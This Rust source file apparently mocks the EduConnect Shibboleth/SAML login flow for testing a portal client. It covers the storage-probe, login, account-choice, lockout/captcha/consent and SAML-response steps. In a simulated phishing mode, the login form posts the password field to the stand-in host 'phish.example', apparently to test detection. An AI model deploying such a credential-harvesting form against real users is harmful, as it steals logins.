//! The fake EduConnect: a Shibboleth flow of one to five pages.
//!
//! A form that does not bring back what its page held is refused with HTTP 400, as is a password
//! that is sent to the first page.

use super::{
    super::http::Reply,
    Trouble, html,
    people::{Oddity, Person},
    state::{Flow, SamlRequest, Step},
    visit::Visit,
};

const COOKIE: &str = "JSESSIONID";
const SSO_COOKIE: &str = "shib_idp_session";

/// Answers for EduConnect.
pub fn answer(visit: &Visit<'_>) -> Option<Reply> {
    if !visit.path.starts_with("/idp/profile/SAML2/") {
        return None;
    }
    let (method, _) = visit.route();
    match (method, visit.parameter("execution")) {
        ("GET", Some(execution)) => Some(show(visit, &execution)),
        ("POST", Some(execution)) => Some(proceed(visit, &execution)),
        _ => Some(begin(visit).unwrap_or_else(|| bad_request("demande inconnue"))),
    }
}

fn begin(visit: &Visit<'_>) -> Option<Reply> {
    let request = match visit.parameter("providerId") {
        Some(provider) => unsolicited(visit, &provider)?,
        None => {
            let sent = Some(visit.field("SAMLRequest").to_owned()).filter(|r| !r.is_empty());
            let sent = sent.or_else(|| visit.parameter("SAMLRequest"))?;
            visit.portals.state().saml_requests.remove(&sent)?
        }
    };
    let mut state = visit.portals.state();
    let person = state.who(visit.cookie(SSO_COOKIE));
    let step = match (visit.portals.options.old_educonnect, person) {
        (true, None) => Step::Login,
        (true, Some(_)) => Step::Response,
        (false, _) => Step::Probe,
    };
    let (cookie, token) = (state.plain("JS"), state.token("csrf"));
    state.flows.insert(cookie.clone(), Flow { step, number: 1, token, request, person });
    drop(state);
    Some(visit.set_cookie(next(visit, 1), COOKIE, &cookie, "/idp"))
}

/// A portal that is named in the address; its consumer is Edifice's.
fn unsolicited(visit: &Visit<'_>, provider: &str) -> Option<SamlRequest> {
    let encoded = html::url_encoded(provider);
    let portal = visit.portals.table.iter().find(|portal| portal.begins_with(&encoded))?;
    let consumer = visit.url(portal.host(), "/auth/saml/acs");
    // Once there was always a RelayState; where nobody asked for one, there need be none.
    let relay = if visit.portals.options.old_educonnect { "ss:mem" } else { "" };
    Some(SamlRequest { consumer, relay: relay.to_owned() })
}

fn show(visit: &Visit<'_>, execution: &str) -> Reply {
    let Some(flow) = flow(visit, execution) else { return bad_request("session perdue") };
    let action = visit.local(&format!("{}?execution={execution}", visit.path));
    match flow.step {
        Step::Probe => storage(&action, &flow.token, &PROBED),
        Step::Save => storage(&action, &flow.token, &SAVED),
        Step::Login => login(visit, &action, &flow, ""),
        Step::LoginAgain => login(visit, &action, &flow, WRONG),
        Step::Stop => flow.person.map_or_else(|| bad_request("étape"), |p| stop(&action, p)),
        Step::Choice => choice(&action, &flow.token),
        Step::Response => respond(visit, &flow),
    }
}

fn proceed(visit: &Visit<'_>, execution: &str) -> Reply {
    let Some(mut flow) = flow(visit, execution) else { return bad_request("session perdue") };
    let old = visit.portals.options.old_educonnect;
    if !old && visit.field("csrf_token") != flow.token {
        return bad_request("csrf_token");
    }
    if !visit.has_field("_eventId_proceed") {
        return bad_request("_eventId_proceed");
    }
    flow.step = match flow.step {
        Step::Probe if is_echoed(visit, &PROBED) => match flow.person {
            Some(_) => Step::Response,
            None => Step::Login,
        },
        Step::Save if is_echoed(visit, &SAVED) => Step::Response,
        Step::Login | Step::LoginAgain => check_password(visit, &mut flow, old),
        Step::Choice if matches!(visit.field("compte"), "1" | "2") => Step::Save,
        _ => return bad_request("formulaire"),
    };
    flow.number += 1;
    let number = flow.number;
    let mut state = visit.portals.state();
    flow.token = state.token("csrf");
    let person = flow.person.filter(|_| flow.step == Step::Response);
    state.flows.insert(visit.cookie(COOKIE).unwrap_or_default().to_owned(), flow);
    let signed_in = person.map(|person| state.sign_in(person));
    drop(state);
    match signed_in {
        Some(cookie) => visit.set_cookie(next(visit, number), SSO_COOKIE, &cookie, "/idp"),
        None => next(visit, number),
    }
}

fn check_password(visit: &Visit<'_>, flow: &mut Flow, old: bool) -> Step {
    let person = Person::find(visit.field("j_username"), visit.field("j_password"));
    let Some(person) = person.filter(|p| old || p.kind == visit.field("typeUser")) else {
        return Step::LoginAgain;
    };
    flow.person = Some(person);
    match person.oddity {
        Oddity::None | Oddity::Stranger if old => Step::Response,
        Oddity::None | Oddity::Stranger => Step::Save,
        Oddity::Several => Step::Choice,
        _ => Step::Stop,
    }
}

fn flow(visit: &Visit<'_>, execution: &str) -> Option<Flow> {
    let flow = visit.portals.state().flows.get(visit.cookie(COOKIE)?).cloned()?;
    (execution == format!("e1s{}", flow.number)).then_some(flow)
}

fn next(visit: &Visit<'_>, number: u32) -> Reply {
    Reply::redirect(&visit.here(&format!("{}?execution=e1s{number}", visit.path)))
}

const PROBED: [&str; 2] = ["shib_idp_session_ss", "shib_idp_persistent_ss"];
const SAVED: [&str; 1] = ["shib_idp_session_ss"];

fn is_echoed(visit: &Visit<'_>, keys: &[&str]) -> bool {
    !visit.has_field("j_password")
        && keys.iter().all(|key| {
            visit.field(&format!("shib_idp_ls_success.{key}")) == "true"
                && visit.has_field(&format!("shib_idp_ls_exception.{key}"))
        })
}

fn storage(action: &str, token: &str, keys: &[&str]) -> Reply {
    let mut fields = html::hidden(&[("csrf_token", token), ("_eventId_proceed", "")]);
    for key in keys {
        for part in ["exception", "success", "value"] {
            let value = if part == "success" { "false" } else { "" };
            fields += &html::hidden(&[(&format!("shib_idp_ls_{part}.{key}"), value)]);
        }
    }
    fields += &html::hidden(&[("shib_idp_ls_supported", "")]);
    html::page(
        "ÉduConnect",
        &format!(
            "<p>Chargement de la session...</p><form name=form1 action='{action}' method=POST>{fields}<noscript><input type=submit name=_eventId_nojs value=Continuer></noscript></form><script>function doLoad(){{document.form1[\"shib_idp_ls_supported\"].value='true';document.form1.submit();}}</script>"
        ),
    )
}

const WRONG: &str = "<div class='form-error'>Identifiant ou mot de passe incorrect, votre compte sera bloqué après plusieurs essais.</div>";

fn login(visit: &Visit<'_>, action: &str, flow: &Flow, error: &str) -> Reply {
    let (password, action) = match visit.portals.options.trouble {
        // What a script would build out of it, nobody knows.
        Trouble::Changed => ("<div id=app-login></div>", action.to_owned()),
        Trouble::Phishing => (
            "<INPUT ID=password TYPE=PASSWORD NAME=j_password>",
            "https://phish.example/get".into(),
        ),
        _ => ("<INPUT ID=password TYPE=PASSWORD NAME=j_password>", action.to_owned()),
    };
    let token = if visit.portals.options.old_educonnect {
        String::new()
    } else {
        html::hidden(&[("csrf_token", &flow.token), ("trace", "a&b=c")])
    };
    // The field typeUser is put there by the script of these two buttons.
    html::page(
        "ÉduConnect",
        &format!(
            "<h1>Sélectionnez votre profil</h1><button type=button id=bouton_responsable>Responsable d'élève</button><button type=button id=bouton_eleve>Élève</button>{error}<table><form class=login action='{action}' method=post><tr><td>{token}<label for=username>Identifiant</label><input id=username name=j_username type=text><tr><td>{password}<input type=text name=website style='display:none' value><button type=submit name=_eventId_proceed id=bouton_valider>Se connecter</button><button name=_eventId_cancel value=x>Annuler</button></form></table><a href=/oubli>Mot de passe oublié ?</a>"
        ),
    )
}

fn stop(action: &str, person: &Person) -> Reply {
    let body = match person.oddity {
        Oddity::Locked => {
            "<p>Votre compte est temporairement bloqué. Réessayez plus tard.</p>".into()
        }
        Oddity::Consent => format!(
            "<h1>Conditions générales d'utilisation</h1><form method=post action='{action}'><input type=checkbox name=cgu value=1><button name=_eventId_proceed>J'accepte</button></form>"
        ),
        Oddity::Captcha => format!(
            "<form method=post action='{action}'><div class='x g-recaptcha' data-sitekey=k></div><button name=_eventId_proceed>Continuer</button></form>"
        ),
        Oddity::Code => format!(
            "<p>Un code de sécurité vous a été envoyé.</p><form method=post action='{action}'><input name=saisie><button name=_eventId_proceed>Valider</button></form>"
        ),
        Oddity::NewPassword => format!(
            "<form method=post action='{action}'><input type=password name=p1><input type=password name=p2><button name=_eventId_proceed>Changer</button></form>"
        ),
        Oddity::None | Oddity::Several | Oddity::Stranger => String::new(),
    };
    html::page("ÉduConnect", &body)
}

fn choice(action: &str, token: &str) -> Reply {
    let hidden = html::hidden(&[("csrf_token", token)]);
    html::page(
        "ÉduConnect",
        &format!(
            "<h1>Plusieurs comptes : choisissez</h1><form method=post action='{action}'>{hidden}<input type=radio name=compte value=1 id=c1><label for=c1>Collège  Jean&nbsp;Moulin</label><label><input type=radio name=compte value=2>Lycée Ampère</label><button name=_eventId_proceed>Continuer</button></form>"
        ),
    )
}

fn respond(visit: &Visit<'_>, flow: &Flow) -> Reply {
    let Some(person) = flow.person else { return bad_request("personne") };
    let response = visit.portals.state().respond(person);
    let mut fields = vec![("SAMLResponse", response.as_str())];
    if !flow.request.relay.is_empty() {
        fields.push(("RelayState", &flow.request.relay));
    }
    html::self_posting(&flow.request.consumer, &fields)
}

fn bad_request(what: &str) -> Reply {
    Reply::html(400, format!("<html><title>400</title><p>Requ&ecirc;te incorrecte : {what}</p>"))
}
